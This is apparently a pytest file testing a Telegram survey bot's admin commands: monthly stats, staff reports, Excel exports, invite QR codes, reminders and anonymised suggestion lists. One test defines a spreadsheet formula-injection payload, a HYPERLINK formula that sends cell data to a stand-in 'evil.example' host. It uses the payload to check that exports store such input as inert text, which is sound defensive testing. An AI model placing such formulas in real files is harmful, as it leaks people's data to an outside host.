"""Admin commands, sent by a fake admin through the real Application and the sandbox Bot API."""

from __future__ import annotations

import html
import io
import logging
import re
import sys
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime

import openpyxl
import pytest
import zxingcpp
from PIL import Image

from bot import reminders
from bot.config import Config
from bot.sandbox import Fault, Respondent, SandboxRequest, supergroup_chat, user
from bot.staff import report as staff_report
from bot.staff.report import build_files
from tests.support.app import App, Clock, running
from tests.support.documents import cell_types
from tests.support.fake_report import die
from tests.test_staff import (
    ADMIN,
    CONTROL_SUGGESTION,
    FEB_1_0800,
    FULL_POST,
    PERSONAL,
    STAFF,
    add_control_characters,
    add_january,
    add_submission,
    add_unreadable,
    fast_files,  # noqa: F401  (a fixture)
    methods,
    texts_of,
    to_chat,
)

ADMIN_COMMANDS = ("stats", "report", "export", "invite", "remind", "suggestions")
BUILD_FAILED = (
    "⚠️ Laporan Januari 2025 tidak dapat dibuat, jadi belum ada yang terkirim. Rinciannya "
    "tercatat di log bot. Silakan coba beberapa saat lagi; bila tetap gagal, hubungi pengelola bot."
)
EXPORT_FAILED = (
    "⚠️ Data Januari 2025 tidak dapat disiapkan, jadi belum ada yang terkirim. Rinciannya "
    "tercatat di log bot. Silakan coba beberapa saat lagi; bila tetap gagal, hubungi pengelola bot."
)

pytestmark = pytest.mark.usefixtures("fast_files")


@pytest.fixture
async def staffed(config: Config, sandbox: SandboxRequest, clock: Clock) -> AsyncIterator[App]:
    telegram = replace(config.telegram, staff_chat_id=STAFF, admin_ids=(ADMIN,))
    async with running(replace(config, telegram=telegram), sandbox, clock) as app:
        yield app


@pytest.fixture
def admin(sandbox: SandboxRequest) -> Respondent:
    return Respondent(sandbox, ADMIN, "Admin")


def plain(text: str | None) -> str:
    """What Telegram shows of an HTML text."""
    return html.unescape(re.sub(r"<[^>]+>", "", text or ""))


def replies(sandbox: SandboxRequest, chat_id: int = ADMIN) -> list[str]:
    """The texts and captions the admin sees now (edits applied), oldest first."""
    return [plain(m.get("text", m.get("caption"))) for m in sandbox.sent_to(chat_id)]


@pytest.mark.parametrize("command", ADMIN_COMMANDS)
async def test_non_admin_is_refused_politely_and_logged(
    staffed: App,
    sandbox: SandboxRequest,
    respondent: Respondent,
    caplog: pytest.LogCaptureFixture,
    command: str,
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    with caplog.at_level(logging.WARNING, logger="bot.admin.commands"):
        await respondent.command(staffed, command, "2025-01")
    assert respondent.last_text == "Maaf, perintah ini hanya untuk admin survei."
    [record] = [r for r in caplog.records if r.name == "bot.admin.commands"]
    assert record.getMessage() == f"refused /{command} from user {respondent.chat_id}: not an admin"
    assert to_chat(sandbox, STAFF) == []


async def test_stats_show_this_month_live(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, respondent: Respondent
) -> None:
    config = staffed.bot_data["runtime"].config
    add_january(config)
    await respondent.command(staffed, "start", "cpob")  # a survey being filled in
    await admin.command(staffed, "stats")
    text = plain(admin.last_text)
    assert "Angka Januari 2025" in text
    assert "Responden: 2 dari kuota 30 orang · isian terhitung: 3 · di luar kuota: 0" in text
    assert "IPP 3,92 · nilai konversi 97,92 · Memuaskan" in text
    assert "Sertifikasi/Resertifikasi CPOB: 2" in text
    assert "sedang diisi saat ini (semua bulan): 1" in text
    await admin.command(staffed, "stats", "2024-12")
    assert "IPP: belum ada data" in plain(admin.last_text)


@pytest.mark.parametrize(
    ("command", "argument", "expected"),
    [
        ("stats", "2025-13", "Bulan 2025-13 tidak dikenali. Tulis bulan dalam format YYYY-MM"),
        ("export", "januari", "Bulan januari tidak dikenali"),
        (
            "suggestions",
            None,
            "Sebutkan bulannya dalam format YYYY-MM, misalnya /suggestions 2024-12",
        ),
        ("export", "2025-03", "Maret 2025 belum dimulai."),
        ("report", None, "/report 2025-01 sini — kirim ke chat ini"),
        ("report", "2025-01 kemarin", "/report 2025-01 ulang — kirim ulang ke chat staf"),
        ("report", "2025-01", "Januari 2025 belum selesai: laporannya akan dikirim otomatis"),
    ],
)
async def test_malformed_arguments_get_the_expected_form(
    staffed: App, admin: Respondent, command: str, argument: str | None, expected: str
) -> None:
    await admin.command(staffed, command, argument)
    assert expected in plain(admin.last_text)


async def test_report_posts_through_the_once_only_machinery(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, clock: Clock
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    clock.current = datetime(2025, 1, 31, 23, 0, tzinfo=UTC)  # 1 February, 06:00 in Jakarta
    await admin.command(staffed, "report", "2025-01")
    assert replies(sandbox)[-1] == "✅ Laporan Januari 2025 terkirim ke chat staf."
    assert methods(to_chat(sandbox, STAFF)) == FULL_POST
    assert [c.params["action"] for c in sandbox.calls_to("sendChatAction")] == ["upload_document"]

    clock.current = FEB_1_0800  # the scheduled post finds it done
    from bot.staff import post as staff

    assert await staff.post_due(staffed) == []
    await admin.command(staffed, "report", "2025-01")
    assert "sudah dikirim ke chat staf pada 1 Februari 2025 pukul 06.00 WIB" in (
        admin.last_text or ""
    )
    assert methods(to_chat(sandbox, STAFF)) == FULL_POST


async def test_report_again_and_here_are_not_the_months_post(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, clock: Clock
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    await admin.command(staffed, "report", "2025-01 sini")  # interim, to the admin
    assert "Angka sementara" in texts_of(to_chat(sandbox, ADMIN))[1]
    assert methods(to_chat(sandbox, ADMIN))[1:] == FULL_POST
    assert replies(sandbox)[0] == "✅ Laporan Januari 2025 terkirim ke chat ini."
    clock.current = FEB_1_0800
    await admin.command(staffed, "report", "2025-01 ulang")
    assert replies(sandbox)[-1] == "✅ Laporan Januari 2025 dikirim ulang ke chat staf."
    from bot.staff import post as staff

    [scheduled] = await staff.post_due(staffed)  # the scheduled post still goes out
    assert scheduled.state == "posted"
    assert methods(to_chat(sandbox, STAFF)) == FULL_POST * 2
    assert not any(p in t for t in texts_of(sandbox.calls) for p in PERSONAL)


async def test_report_whose_build_process_dies_tells_the_admin(
    staffed: App,
    sandbox: SandboxRequest,
    admin: Respondent,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    clock.current = FEB_1_0800
    monkeypatch.setattr(staff_report, "build_files", die)
    await admin.command(staffed, "report", "2025-01 sini")
    assert replies(sandbox)[-1] == BUILD_FAILED
    await admin.command(staffed, "report", "2025-01")
    assert replies(sandbox)[-1] == BUILD_FAILED
    assert to_chat(sandbox, STAFF) == []


async def test_export_sends_the_workbook_with_progress(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, monkeypatch: pytest.MonkeyPatch
) -> None:
    # If the bot's process built the workbook itself, it would import analysis.report again.
    monkeypatch.delitem(sys.modules, "analysis.report", raising=False)
    await admin.command(staffed, "export", "2025-01")
    assert admin.last_text == "Belum ada isian survei untuk Januari 2025."
    add_january(staffed.bot_data["runtime"].config)
    await admin.command(staffed, "export", "2025-01")
    [document] = sandbox.calls_to("sendDocument")
    assert document.params["chat_id"] == ADMIN
    assert document.files["document"].filename == "data-spkp-spak-2025-01.xlsx"
    assert replies(sandbox)[-2:] == [
        "✅ Data Januari 2025 terkirim.",
        "Data SPKP dan SPAK Januari 2025 (Excel)",
    ]
    assert [c.params["action"] for c in sandbox.calls_to("sendChatAction")] == ["upload_document"]
    assert "analysis.report" not in sys.modules


async def test_export_workbook_holds_the_months_data_without_names(
    staffed: App, sandbox: SandboxRequest, admin: Respondent
) -> None:
    # fast_files stands in for the staff post's files: /export builds its own, real workbook.
    add_january(staffed.bot_data["runtime"].config)
    await admin.command(staffed, "export", "2025-01")
    [document] = sandbox.calls_to("sendDocument")
    book = openpyxl.load_workbook(io.BytesIO(document.files["document"].content), read_only=True)
    try:
        summary = [row[:4] for row in book["Ringkasan"].iter_rows(values_only=True)]
        cells = [v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row]
    finally:
        book.close()
    assert ("Periode", "Januari 2025") in [row[:2] for row in summary]
    assert ("Responden dihitung (orang)", 2) in [row[:2] for row in summary]  # 2 persons, 3 isian
    ipp = "Indeks Persepsi Pelayanan Publik (IPP)"
    assert (ipp, 3.92, 97.92, "Memuaskan") in summary  # numbers, shown 3,92 by Excel
    assert "Perlu menambah jumlah personil." in cells
    assert not any(p in str(v) for v in cells for p in PERSONAL)


async def test_export_that_fails_says_so_and_the_next_one_works(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    with monkeypatch.context() as patched:
        patched.setattr(staff_report, "workbook_file", die)
        await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-1] == EXPORT_FAILED
    sandbox.inject("sendDocument", Fault.server_error(), times=1)
    await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-1].startswith("⚠️ Data Januari 2025 gagal dikirim (")
    await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-2] == "✅ Data Januari 2025 terkirim."
    assert [c.result_status for c in sandbox.calls_to("sendDocument")] == [500, 200]


async def test_invite_sends_the_link_and_a_qr_code_of_it(
    staffed: App, sandbox: SandboxRequest, admin: Respondent
) -> None:
    await admin.command(staffed, "invite", "cpob")
    [call] = sandbox.calls_to("sendDocument")
    link = f"https://t.me/{sandbox.bot_username}?start=cpob"
    assert link in call.params["caption"]
    upload = call.files["document"]
    assert upload.filename.endswith(".png") and upload.content.startswith(b"\x89PNG")
    [decoded] = zxingcpp.read_barcodes(Image.open(io.BytesIO(upload.content)))
    assert decoded.text == link


async def test_invite_with_an_unknown_service_lists_the_codes(
    staffed: App, admin: Respondent
) -> None:
    await admin.command(staffed, "invite", "cpobb")
    text = plain(admin.last_text)
    assert "cpobb tidak dikenal" in text
    assert "suket_cpob — Surat Keterangan Penerapan CPOB" in text


async def test_remind_sends_the_reminders_and_reports_the_count(
    staffed: App, admin: Respondent, monkeypatch: pytest.MonkeyPatch
) -> None:
    await admin.command(staffed, "remind")  # the real run: nobody is due
    assert admin.last_text == "✅ Pengingat terkirim: 0."
    calls: list[App] = []

    async def send_due(app: App) -> reminders.ReminderRun:
        calls.append(app)
        return reminders.ReminderRun(due=4, sent=3, unreachable=1)

    monkeypatch.setattr(reminders, "send_due", send_due)
    await admin.command(staffed, "remind")
    assert calls == [staffed]
    assert admin.last_text == (
        "✅ Pengingat terkirim: 3. Tidak terkirim: 0 (akan dicoba lagi nanti) · "
        "tidak dapat dihubungi (misalnya memblokir bot): 1."
    )


async def test_remind_in_quiet_hours_says_so(staffed: App, admin: Respondent, clock: Clock) -> None:
    clock.current = datetime(2025, 1, 15, 15, 0, tzinfo=UTC)  # 22:00 in Jakarta
    await admin.command(staffed, "remind")
    assert plain(admin.last_text).startswith("Sekarang jam tenang (21.00–07.00)")


async def test_suggestions_are_listed_without_names_across_messages(
    staffed: App, sandbox: SandboxRequest, admin: Respondent
) -> None:
    config = staffed.bot_data["runtime"].config
    await admin.command(staffed, "suggestions", "2025-01")
    assert admin.last_text == "Tidak ada saran responden untuk Januari 2025."
    for n in range(12):
        add_submission(
            config,
            "2025-01",
            datetime(2025, 1, 2, n, tzinfo=UTC),
            suggestion=f"Saran {n} <penting>: " + "mohon dipercepat. " * 60,
        )
    await admin.command(staffed, "suggestions", "2025-01")
    sent = replies(sandbox)[1:]
    assert len(sent) > 1 and all(len(t) <= 4096 for t in sent)
    joined = "\n".join(sent)
    assert "Saran responden Januari 2025 (12)" in joined
    assert "12. [Sertifikasi/Resertifikasi CPOB] Saran 11 <penting>" in joined
    assert not any(p in joined for p in PERSONAL)


async def test_placeholders_are_neither_listed_nor_counted_as_suggestions(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, clock: Clock
) -> None:
    # Imports from the previous platform answer "-" or "Tidak ada" where there is no suggestion.
    config = staffed.bot_data["runtime"].config
    add_january(config)  # one suggestion: "Perlu menambah jumlah personil."
    for n, answer in enumerate(("-", "Tidak ada", "N/A", "tidak ada saran."), start=1):
        add_submission(config, "2025-01", datetime(2025, 1, 23, n, tzinfo=UTC), suggestion=answer)
    await admin.command(staffed, "suggestions", "2025-01")
    assert replies(sandbox)[-1] == (
        "💬 Saran responden Januari 2025 (1)\n\n"
        "1. [Sertifikasi/Resertifikasi CPOB] Perlu menambah jumlah personil."
    )
    clock.current = datetime(2025, 1, 31, 23, 0, tzinfo=UTC)
    await admin.command(staffed, "report", "2025-01")
    assert "Saran responden: <b>1</b>" in to_chat(sandbox, STAFF)[0].params["text"]


async def test_suggestions_of_emoji_arrive_whole_in_messages_telegram_takes(
    staffed: App, sandbox: SandboxRequest, admin: Respondent
) -> None:
    # Telegram counts UTF-16 units: an emoji is one Python character but two units, so lines cut
    # by len() made messages of up to 8,192 units, which the (sandbox) Bot API refuses.
    config = staffed.bot_data["runtime"].config
    suggestions = [f"Saran {n} & <catatan>: " + "👍🏽" * 700 for n in range(6)]
    suggestions.append("Sangat panjang: " + "😀" * 3000 + " <akhir>")  # alone over the limit
    for n, suggestion in enumerate(suggestions):
        add_submission(
            config, "2025-01", datetime(2025, 1, 2, n, tzinfo=UTC), suggestion=suggestion
        )
    await admin.command(staffed, "suggestions", "2025-01")
    sent = [m["text"] for m in sandbox.sent_to(ADMIN)]
    assert len(sent) > 2
    assert all(len(text.encode("utf-16-le")) // 2 <= 4096 for text in sent)
    shown = "\n".join(plain(text) for text in sent)
    for n, suggestion in enumerate(suggestions, start=1):
        assert f"{n}. [Sertifikasi/Resertifikasi CPOB] " in shown
        assert shown.count(suggestion[:9]) == 1
    assert shown.count("👍🏽") == 6 * 700 and shown.count("😀") == 3000
    assert "<akhir>" in shown


async def test_joining_a_group_logs_its_id_for_the_config(
    staffed: App, sandbox: SandboxRequest, caplog: pytest.LogCaptureFixture
) -> None:
    group = supergroup_chat(-1_001_234_567_890, "Staf SPKP")
    change = {
        "chat": group,
        "from": user(ADMIN, "Admin"),
        "date": 1_736_900_000,
        "old_chat_member": {"status": "left", "user": sandbox.bot_user()},
        "new_chat_member": {"status": "member", "user": sandbox.bot_user()},
    }
    with caplog.at_level(logging.INFO, logger="bot.admin.commands"):
        await Respondent(sandbox, ADMIN).send(staffed, {"update_id": 1, "my_chat_member": change})
    [record] = [r for r in caplog.records if r.name == "bot.admin.commands"]
    assert "set [telegram] staff_chat_id = -1001234567890" in record.getMessage()
    assert "Admin" not in record.getMessage()


# -- text that cannot block a report (issue 11, point 4) -----------------------------------------


@pytest.fixture
async def personal(config: Config, sandbox: SandboxRequest, clock: Clock) -> AsyncIterator[App]:
    """The bot with a staff chat and ``include_personal``: names and institutions in the files."""
    telegram = replace(config.telegram, staff_chat_id=STAFF, admin_ids=(ADMIN,))
    reports = replace(config.reports, include_personal=True)
    async with running(replace(config, telegram=telegram, reports=reports), sandbox, clock) as app:
        yield app


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


async def test_report_and_export_of_a_month_with_control_characters_and_formulas(
    personal: App,
    sandbox: SandboxRequest,
    admin: Respondent,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(staff_report, "build_files", build_files)  # the real files, this time
    config = personal.bot_data["runtime"].config
    add_january(config)
    add_control_characters(config)
    add_submission(
        config,
        "2025-01",
        datetime(2025, 1, 26, 4, 0, tzinfo=UTC),
        name=FORMULA,
        institution="@Farma",
        suggestion=FORMULA,
    )
    clock.current = FEB_1_0800
    await admin.command(personal, "report", "2025-01 sini")
    assert replies(sandbox)[0] == "✅ Laporan Januari 2025 terkirim ke chat ini."
    assert methods(to_chat(sandbox, ADMIN))[1:] == FULL_POST
    await admin.command(personal, "export", "2025-01")
    assert replies(sandbox)[-2] == "✅ Data Januari 2025 terkirim."
    document = sandbox.calls_to("sendDocument")[-1].files["document"].content
    cells = cell_types(io.BytesIO(document))
    for shown in ("Bam bang Sutrisno", "PT[1m Farmasi Nusantara", FORMULA, "@Farma"):
        assert cells.get(("Responden", shown)) == "s", shown
    assert cells.get(("Saran", "Antrian lebih cepat")) == "s"
    assert cells.get(("Saran", FORMULA)) == "s"
    assert "f" not in cells.values()


async def test_a_report_that_cannot_be_built_tells_the_admin_so_and_nothing_more(
    staffed: App,
    sandbox: SandboxRequest,
    admin: Respondent,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setattr(staff_report, "build_files", build_files)
    config = staffed.bot_data["runtime"].config
    add_january(config)
    add_unreadable(config, "2025-01", datetime(2025, 1, 28, 4, 0, tzinfo=UTC))
    clock.current = FEB_1_0800
    with caplog.at_level(logging.WARNING):
        for command in ("2025-01 sini", "2025-01", "2025-01 ulang"):
            await admin.command(staffed, "report", command)
            assert replies(sandbox)[-1] == BUILD_FAILED, command
        await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-1] == EXPORT_FAILED
    assert not any("/start" in text or "malformed" in text for text in replies(sandbox))
    assert to_chat(sandbox, STAFF) == []
    assert "Bambang" not in caplog.text


async def test_suggestions_stored_with_control_characters_are_listed_clean(
    staffed: App, sandbox: SandboxRequest, admin: Respondent
) -> None:
    config = staffed.bot_data["runtime"].config
    add_submission(
        config, "2025-01", datetime(2025, 1, 25, 4, 0, tzinfo=UTC), suggestion=CONTROL_SUGGESTION
    )
    add_submission(
        config, "2025-01", datetime(2025, 1, 26, 4, 0, tzinfo=UTC), suggestion="Ramah\x1b\x7f 👍"
    )
    await admin.command(staffed, "suggestions", "2025-01")
    listed = replies(sandbox)[-1]
    assert "Antrian lebih cepat" in listed and "Ramah 👍" in listed
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", listed)
